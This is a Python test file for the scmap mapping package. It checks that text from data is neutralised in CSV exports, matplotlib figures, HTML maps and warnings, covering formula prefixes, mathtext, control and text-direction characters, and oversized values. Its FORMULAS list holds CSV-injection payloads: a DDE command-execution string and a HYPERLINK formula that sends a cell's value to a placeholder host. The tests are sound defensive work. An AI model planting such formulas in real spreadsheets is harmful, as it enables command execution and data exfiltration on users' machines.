"""Data text stays text in every output: spreadsheet cells, matplotlib figures, oversized values."""

from __future__ import annotations

import csv
import warnings
from pathlib import Path

import geopandas as gpd
import matplotlib.text
import numpy as np
import pandas as pd
import pytest
import yaml
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from scmap import load_catalogue, run
from scmap.cli.main import cli
from scmap.core._text import MAX_DISPLAY_CHARS, csv_cell, csv_safe, display_text, mpl_literal, write_csv
from scmap.maps.export import static_map
from scmap.project.datasets import copy_demo

matplotlib.use("Agg")

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
MATH = r"$\frac{1}{$"


def _project_with_names(tmp_path: Path, names: list[str], *, label: str | None = None) -> Path:
    """The demo with its first district names replaced (and, with *label*, a catalogue label)."""
    project = copy_demo(tmp_path / "city")
    districts = gpd.read_file(project.parent / "districts.gpkg", layer="districts")
    for i, name in enumerate(names):
        districts.loc[i, "name"] = name
    districts["delta"] = np.arange(len(districts)) - 10.5  # a numeric column with negative values
    districts.to_file(project.parent / "districts.gpkg", layer="districts", driver="GPKG")
    if label is not None:
        (project.parent / "cat.yaml").write_text(
            yaml.safe_dump({"solutions": {"ev_charging": {"label": label}}}), encoding="utf-8"
        )
        spec = yaml.safe_load(project.read_text(encoding="utf-8"))
        spec["catalogue"] = "cat.yaml"
        project.write_text(yaml.safe_dump(spec, sort_keys=False), encoding="utf-8")
    return project


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_csv_cells_never_start_a_formula_but_numbers_stay_numbers(tmp_path: Path):
    project = _project_with_names(tmp_path, FORMULAS)
    out = tmp_path / "pack"
    result = CliRunner().invoke(cli, ["run", str(project), "-o", str(out)])
    assert result.exit_code == 0, result.output
    for name in ("summary.csv", "suitability.csv", "rejected.csv"):
        for cell in _cells(out / name):
            # a spreadsheet-style check: what a spreadsheet would evaluate
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
            if cell.startswith("-"):
                float(cell)  # only numbers may start with a minus
    summary = pd.read_csv(out / "summary.csv")
    names = summary["district_name"].tolist()
    for formula in FORMULAS:
        assert "'" + formula.strip() in names  # neutralised the usual way (names are read trimmed)
    gpkg = gpd.read_file(out / "overlap.gpkg", layer="districts")
    assert {f.strip() for f in FORMULAS} <= set(gpkg["district_name"])  # GeoPackage keeps the exact text


def test_write_csv_leaves_numbers_alone(tmp_path: Path):
    table = pd.DataFrame({"delta": [-2.5, 3.0, -1e-3], "n": [-1, 0, 2], "text": ["-2+3", "-7", "ok"]})
    write_csv(table, tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv")
    assert back["delta"].tolist() == [-2.5, 3.0, -1e-3]
    assert back["n"].tolist() == [-1, 0, 2]
    assert back["text"].tolist() == ["'-2+3", "-7", "ok"]  # "-7" is a number to a spreadsheet too: kept


@given(st.text(max_size=30))
def test_csv_cell_is_inert_or_a_number(value: str):
    cell = csv_cell(value)
    assert isinstance(cell, str)
    assert cell in (value, "'" + value)
    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        float(cell.replace(",", "."))


def test_csv_safe_does_not_touch_the_input():
    table = pd.DataFrame({"=x": ["=1"]})
    safe = csv_safe(table)
    assert table.iloc[0, 0] == "=1" and table.columns[0] == "=x"
    assert safe.iloc[0, 0] == "'=1" and safe.columns[0] == "'=x"


def test_matplotlib_text_is_literal():
    text = "Cost in $ and $x^2$ " + MATH
    shown = mpl_literal(text)
    t = matplotlib.text.Text(text=shown)
    assert t._preprocess_math(t.get_text()) == (text, False)  # no mathtext, shown as written


def test_math_in_labels_and_names_gives_a_full_pack_with_literal_figures(tmp_path: Path):
    project = _project_with_names(tmp_path, [MATH, "$a$ and $b$"], label=MATH)
    out = tmp_path / "pack"
    result = CliRunner().invoke(cli, ["run", str(project), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert (out / "report.html").stat().st_size > 0 and (out / "manifest.json").exists()
    results = run(project)
    fig = static_map(
        results.districts,
        results.solutions,
        catalogue=results.project.catalogue,
        suitability=results.suitability,
        model="ev_charging",
        title=f"{MATH} suitability",
    )
    texts = [t for t in fig.findobj(matplotlib.text.Text) if t.get_text()]
    fig.canvas.draw()  # would raise on a mathtext parse error
    shown = {t._preprocess_math(t.get_text()) for t in texts}
    assert (f"{MATH} suitability", False) in shown  # title
    assert all(not ismath for _, ismath in shown)
    matplotlib.pyplot.close(fig)


def test_display_text_removes_controls_and_neutralises_direction():
    assert display_text("a\x00b\x07c\u202ed\u2066e\u200bf") == "abc\ufffdd\ufffdef"
    assert display_text("two\nlines\tand tab") == "two lines and tab"
    long = display_text("é" * 1000)
    assert len(long) == MAX_DISPLAY_CHARS and long.endswith("…")
    assert display_text("Plaça de l'Àngel") == "Plaça de l'Àngel"
    # Windows-1252 bytes read as Latin-1 (València's 'L\x92ESCOLETA'): the characters meant; 0x81 has none
    assert display_text("L\x92ESCOLETA \x93ARNICHES\x94 \x80 5\x81") == "L’ESCOLETA “ARNICHES” € 5"


def test_one_warning_says_what_display_changed_in_columns_copied_under_two_names():
    from scmap.core._text import display_frame

    names = ["CENTRO L\x92ESCOLETA", 'CENTRO \x93ARNICHES"', "POLIDEPORTIVO"]
    table = pd.DataFrame({"solution_id": ["009259", "007828", "005160"], "name": names, "equipamien": names})
    with pytest.warns(UserWarning, match="for display") as caught:
        shown = display_frame(table, what="solutions", id_column="solution_id")
    assert len(caught) == 1, [str(w.message) for w in caught]
    assert str(caught[0].message) == (
        "solutions: columns 'name', 'equipamien', solution_id '009259', '007828': for display, Windows-1252 "
        "characters stored as control codes shown as ’ “ (the file was written from text read as Latin-1); "
        "the tables keep the full value"
    )
    assert shown["name"].tolist() == ["CENTRO L’ESCOLETA", 'CENTRO “ARNICHES"', "POLIDEPORTIVO"]
    assert table["name"].iloc[0] == "CENTRO L\x92ESCOLETA"  # the table keeps what the file says
    with pytest.warns(UserWarning, match="for display") as caught:
        display_frame(pd.DataFrame({"note": ["x" * 300, "a\x00b"]}), what="districts")
    assert [str(w.message) for w in caught] == [
        "districts: column 'note', rows 0, 1: for display, text shortened to 200 characters; control or "
        "text-direction characters removed; the tables keep the full value"
    ]


@given(
    st.text(
        alphabet=st.sampled_from(["a", "é", " ", "\x00", "\x07", "\n", "\u202e", "\u200b", "中", "\x92", "\x81"]),
        max_size=200,
    ),
    st.integers(min_value=2, max_value=40),
)
def test_display_text_of_a_long_value_is_its_whole_text_cleaned_then_cut(text: str, limit: int):
    """Cleaning only the start of a long text gives what cleaning all of it gives (also when
    controls fill the start)."""
    cleaned = text.replace("\n", " ").replace("\x00", "").replace("\x07", "").replace("\u200b", "")
    cleaned = cleaned.replace("\u202e", "\ufffd").replace("\x92", "’").replace("\x81", "")
    expected = cleaned if len(cleaned) <= limit else cleaned[: limit - 1] + "…"
    assert display_text(text, limit=limit) == expected


def test_huge_name_gives_small_map_and_report_a_warning_and_the_full_table(tmp_path: Path):
    huge = "Gràcia " + "x" * 50_000_000
    project = _project_with_names(tmp_path, ["ok", huge])
    results = run(project)
    out = tmp_path / "pack"
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        results.save(out)
    assert (out / "map.html").stat().st_size < 5e6
    assert (out / "report.html").stat().st_size < 5e6
    messages = [str(w.message) for w in caught]
    second_id = results.districts["district_id"].iloc[1]
    assert any("district_name" in m and repr(second_id) in m and "200 characters" in m for m in messages), messages
    kept = gpd.read_file(out / "overlap.gpkg", layer="districts")
    assert kept["district_name"].str.len().max() == len(huge)


def test_the_warning_names_long_ids_by_their_start_and_their_end():
    """Ids made from a long layer name (València's air-quality stations) differ at their end: the
    warning about their shortened texts keeps both ends, so that the rows stay told apart."""
    ids = [f"red_de_vigilancia_de_la_contaminacion_atmosferica-{i}" for i in (1, 2, 10)]
    message = _one_warning(pd.DataFrame({"solution_id": ids, "parametros": ["NO2 " * 80] * 3}))
    shown = ["'red_de_vigilancia_de…acion_atmosferica-1'", "'red_de_vigilancia_de…cion_atmosferica-10'"]
    assert all(name in message for name in shown), message
    assert all(len(name) == 42 for name in shown)  # 20 + "…" + 19 characters, and the quotes
    assert "'short-id'" in _one_warning(pd.DataFrame({"solution_id": ["short-id"], "parametros": ["x" * 300]}))


def _one_warning(table: pd.DataFrame) -> str:
    from scmap.core._text import display_frame

    with pytest.warns(UserWarning, match="text shortened") as caught:
        display_frame(table, what="solutions", id_column="solution_id")
    return str(caught[0].message)


@pytest.mark.parametrize("bad", ["\x00", "\u202e", "\x1b[31m"])
def test_map_payload_has_no_control_or_override_characters(grid_districts, bad: str):
    from scmap import solution_map

    districts = grid_districts.rename(columns={"code": "district_id", "label": "district_name"})
    districts.loc[0, "district_name"] = f"North{bad}West"
    with pytest.warns(UserWarning, match="district_id 'D1'"):
        page = solution_map(districts, catalogue=load_catalogue(), basemap="none").get_root().render()
    assert bad not in page and "\\u202e" not in page.lower() and "\\u0000" not in page
